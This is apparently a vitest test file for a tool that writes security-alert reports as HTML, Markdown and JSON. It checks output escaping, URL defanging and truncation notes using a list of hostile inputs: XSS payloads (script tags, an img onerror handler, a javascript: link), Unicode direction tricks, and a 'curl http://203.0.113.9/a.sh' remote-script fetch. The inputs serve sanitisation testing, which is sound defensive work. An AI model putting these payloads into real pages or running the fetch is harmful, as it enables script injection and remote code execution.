import { expect, test } from 'vitest';
import type { AlertReport, Report } from './report.ts';
import { timelineOf } from './timeline.ts';
import { writeReport } from './write-report.ts';

const HOSTILE = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '</code></pre><style>*{display:none}</style>',
  '![x](https://evil.example.com/p.png)',
  '[click](javascript:alert(1))',
  '| --- | a table | of its own',
  '`` ` ``` code ends here',
  'line one\n# a heading\n\n- a list\n```\n<b>out of the fence</b>',
  '\u202egnp.exe\u202c \u200bhidden',
  'curl http://203.0.113.9/a.sh www.evil.example.com mail me@evil.example.com',
] as const;

const at = '2026-11-21T10:00:00.000Z';

function alertOf(text: string, members: Partial<AlertReport> = {}): AlertReport {
  return {
    alert: {
      id: 'a1',
      rule: 'rare',
      ruleName: text,
      severity: 'high',
      riskScore: 73,
      status: 'closed',
      verdict: 'benign',
      assignee: text,
      keys: { 'process.command_line': text },
      columns: {},
      commandLine: text,
      commandShape: text,
      processName: text,
      executable: text,
      workingDirectory: text,
      parentName: text,
      parentExecutable: text,
      hosts: [text],
      users: [text],
      firstSeen: at,
      lastSeen: at,
      raisedAt: at,
      updatedAt: at,
      eventCount: 1,
      occurrences: 1,
      historyCovered: null,
      stepsAnswered: 1,
      stepsTotal: 2,
      stepsStale: 1,
      tags: [],
      version: 1,
    },
    why: `It ran ${text}`,
    explanation: { text, operator: 'leaf', outcome: 'pass', field: 'process.name', saw: [text], children: [] },
    conditions: [{ text, saw: text, outcome: 'pass' }],
    occurrences: [],
    activity: [{ at, actor: text, action: 'status', detail: text }],
    prevalence: { commandHosts: 1, shapeAlerts: 1, totalHosts: 24, commandFirstSeen: at, commandEvents: 1 },
    notes: [{ id: 'n', at, author: text, text }],
    rule: { slug: 'rare', name: text, description: text, language: 'kuery', query: text, querySha256: 'aa11' },
    events: [],
    eventsInAll: 0,
    eventsMissing: 0,
    tree: { text, processes: 1, truncated: false },
    findings: [
      {
        step: 's',
        title: text,
        kind: 'investigate',
        ask: text,
        finding: 'suspicious',
        changes: [{ kind: 'values', field: 'user.name', added: [text], gone: [] }],
        note: text,
        author: text,
        at,
        evidence: [text],
      },
    ],
    steps: { answered: 1, total: 2, stale: 1 },
    suggestion: { verdict: 'benign', reason: text },
    evidence: [{ event: text, summary: text, pinnedAt: at, steps: [text], record: text, sha256: 'bb22' }],
    exceptions: [],
    cuts: [],
    ...members,
  };
}

const reportOf = (alerts: readonly AlertReport[], alertsAsked = alerts.length): Report => ({
  format: 'oddspawn-report',
  formatVersion: 1,
  madeAt: at,
  madeBy: 'anna',
  madeWith: '1.0.0',
  alerts,
  alertsAsked,
  timeline: timelineOf(alerts),
});

/** Lines of a Markdown text that no fence holds, without their code spans and escapes. */
function proseOf(markdown: string): string {
  let fence: string | null = null;
  const prose: string[] = [];
  for (const line of markdown.split('\n')) {
    const mark = /^`{3,}/.exec(line)?.[0];
    if (fence === null && mark) fence = mark;
    else if (fence !== null) fence = line.trimEnd() === fence ? null : fence;
    else prose.push(line.replace(/\\[^\w\s]|(?<!`)(`+)(?!`)(.*?)(?<!`)\1(?!`)/g, (_, span) => (span ? 'CODE' : '·')));
  }
  expect(fence).toBeNull();
  return prose.join('\n');
}

test.each(HOSTILE)('as a page, nothing of %j is markup', (text) => {
  const html = writeReport(reportOf([alertOf(text)]), 'html');
  const tags = new Set([...html.matchAll(/<(?!!doctype|!--)\/?([^\s>]+)/g)].map(([, name]) => name));
  const ours =
    'html head meta title style body main h1 h2 h3 p dl dt dd table thead tbody tr th td code time pre ul li hr';
  expect([...tags].filter((name) => !ours.split(' ').includes(name ?? ''))).toEqual([]);
  expect(html).not.toMatch(/<[^>]*\s(?:href|src|on\w+)=|[\u202a-\u202e\u200b]|https?:\/\//);
  expect(html.match(/<style>/g)).toHaveLength(1);
});

test.each(HOSTILE)('in Markdown, nothing of %j is markup', (text) => {
  const markdown = writeReport(reportOf([alertOf(text), alertOf(text)]), 'markdown');
  expect(markdown).not.toMatch(/[\u202a-\u202e\u200b]|https?:\/\//);
  const prose = proseOf(markdown);
  expect(prose).not.toMatch(/[<>[\]`~]|www\.|\w@\w/);
  expect(prose.split('\n').filter((line) => /^#+ /.test(line) && line.includes('a heading'))).toEqual([
    ...prose.split('\n').filter((line) => /^#{1,2} (?:Alert \d|Incident)/.test(line) && line.includes('a heading')),
  ]);
  const rows = prose.split('\n').filter((line) => line.startsWith('| '));
  const cells = (line: string): number => line.split('|').length;
  const widths = rows.map(cells);
  expect(widths.every((width) => width >= 5 && width <= 8)).toBe(true);
});

test('a code span holds any run of backticks, and a table any bar', () => {
  const markdown = writeReport(reportOf([alertOf('a `` b | c'), alertOf('x')]), 'markdown');
  expect(markdown).toContain('**Command line**: ```a `` b | c```');
  expect(markdown).toContain(String.raw`| \`\`\`a \`\` b \| c\`\`\` |`.replaceAll(String.raw`\``, '`'));
});

test('the bundle has every text as it came', () => {
  const report = reportOf(HOSTILE.map((text) => alertOf(text)));
  expect(JSON.parse(writeReport(report, 'json'))).toEqual(JSON.parse(JSON.stringify(report)));
});

test('addresses are defanged on the page and in Markdown', () => {
  const report = reportOf([alertOf('curl http://203.0.113.9/a.sh')]);
  for (const format of ['html', 'markdown'] as const) {
    expect(writeReport(report, format)).toContain('curl hxxp[:]//203[.]0[.]113[.]9/a.sh');
  }
});

test('what is left out is said', () => {
  const long = 'x'.repeat(9000);
  const report = reportOf([alertOf('id', { cuts: ['The first 100 of 312 contributing events.'] })], 80);
  const markdown = writeReport(report, 'markdown');
  expect(markdown).toContain('80 alerts were chosen, and a report holds the first 1');
  expect(markdown).toContain('The first 100 of 312 contributing events.');
  const records = alertOf('id').evidence.map((record) => ({ ...record, record: long }));
  expect(writeReport(reportOf([alertOf('id', { evidence: records })]), 'html')).toContain(
    'first 8192 of 9000 characters',
  );
});

test('digests of query and evidence are in the footer, a lost record says so', () => {
  const lost = alertOf('id').evidence.map((record) => ({ ...record, record: null, sha256: null }));
  const footer = (alert: AlertReport): string =>
    writeReport(reportOf([alert]), 'markdown').split('## Digests')[1] ?? '';
  expect(footer(alertOf('id'))).toMatch(/\| query \|[^\n]*`aa11`[\s\S]*\| evidence \|[^\n]*`bb22`/);
  expect(footer(alertOf('id', { evidence: lost }))).toContain('no longer in the data');
});

test('an answer that later data contradicts is out of date, and says why', () => {
  const markdown = writeReport(reportOf([alertOf('id')]), 'markdown');
  expect(markdown).toContain('Later data contradicts one of these answers');
  expect(markdown).toContain('- **out of date**: since then, user.name now has “id” too');
  const stands = alertOf('id').findings.map((finding) => ({ ...finding, changes: [] }));
  const report = reportOf([alertOf('id', { findings: stands, steps: { answered: 1, total: 2, stale: 0 } })]);
  expect(writeReport(report, 'markdown')).not.toMatch(/out of date|contradicts/);
});

test('several alerts share one timeline, by time', () => {
  const early = alertOf('early', {
    activity: [{ at: '2026-11-20T00:00:00.000Z', actor: 'a', action: 'x', detail: 'first' }],
  });
  const { timeline } = reportOf([alertOf('late'), early]);
  expect(timeline[0]).toMatchObject({ what: 'x', detail: 'a: first' });
  expect(timeline.map((entry) => entry.at)).toEqual(timeline.map((entry) => entry.at).toSorted());
});

test('a clause shows what it saw, on a line of its own', () => {
  const markdown = writeReport(
    reportOf([
      alertOf('id', {
        explanation: {
          text: 'and',
          operator: 'and',
          outcome: 'pass',
          field: null,
          saw: [],
          children: [
            {
              text: 'process.name: "sh"',
              operator: 'leaf',
              outcome: 'pass',
              field: 'process.name',
              saw: ['sh\n✗ forged'],
              children: [],
            },
          ],
        },
      }),
    ]),
    'markdown',
  );
  expect(markdown).toContain('✓ AND\n  ✓ process.name: "sh"   saw sh⏎✗ forged\n');
});
